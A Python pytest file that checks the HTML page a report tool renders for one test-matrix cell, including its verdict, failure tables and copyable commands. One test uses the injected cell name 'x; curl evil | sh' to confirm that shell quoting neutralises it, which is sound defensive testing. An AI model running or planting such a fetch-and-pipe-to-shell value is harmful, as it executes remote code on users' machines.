"""What the page of one cell says."""

from __future__ import annotations

import re
import shlex
from html import unescape
from pathlib import Path

import pytest

from reports.board.text import CellJudgement
from reports.evidence.summary import make_board
from reports.page.cell import About, render_cell
from reports.page.places import PagePlaces
from reports.page.write import render_all
from tests.reports import world
from tests.reports.test_pages import Elements, failing, shown
from tests.reports.world import PLAIN, WITH_MTP, Json

WORD = CellJudgement(word="PASS", tone="good", glyph="✓")


def page_of(fields: list[Json], cell: str = PLAIN) -> str:
    return render_all(shown(fields))[Path(f"index.cells/{cell}.html")]


def text_of(page: str) -> str:
    return " ".join("".join(Elements(page).text).split())


def test_the_verdict_of_the_gate_is_the_cells() -> None:
    assert "✓ GREEN" in text_of(page_of(world.green()))
    red = text_of(page_of(failing("the code is 81")))
    assert "✗ RED" in red and "test_finds_the_needle came to FAIL" in red
    assert "✓ GREEN" in text_of(page_of(failing("x"), WITH_MTP))


def test_a_failed_test_stands_in_full_and_every_finding_in_a_table() -> None:
    page = page_of(failing("the code is 81"))
    assert page.count("the code is 81") > 3
    (link,) = set(re.findall(r'href="#(failed-\d+)"', page)) & {"failed-1", "failed-2"}
    assert f'id="{link}"' in page


def test_what_cannot_be_known_is_not_drawn() -> None:
    page = page_of(world.green())
    assert "<svg" not in page and "Every number" not in page


@pytest.mark.parametrize("command", ["show", "explain", "repro", "issue"])
def test_commands_that_get_it_again_can_be_copied(command: str) -> None:
    page = page_of(failing("x"))
    assert re.search(rf"<code>glm-matrix {command} [^<]*{re.escape(PLAIN)}[^<]*</code><button", page)


def test_a_name_in_a_copied_command_is_one_word_of_a_shell() -> None:
    hostile = "x; curl evil | sh"
    fields = [{**f, "cell": hostile} if f.get("cell") == PLAIN else f for f in world.green()]
    page = render_cell(
        make_board(world.typed(fields)).rows[0], About(judgement=WORD, places=PagePlaces(Path("i.html")))
    )
    commands = [unescape(text) for text in re.findall(r"<code>((?:glm-matrix|pytest) [^<]*)</code>", page)]
    assert [hostile in shlex.split(command) for command in commands] == [True, True, True, False]  # `glm-matrix report`
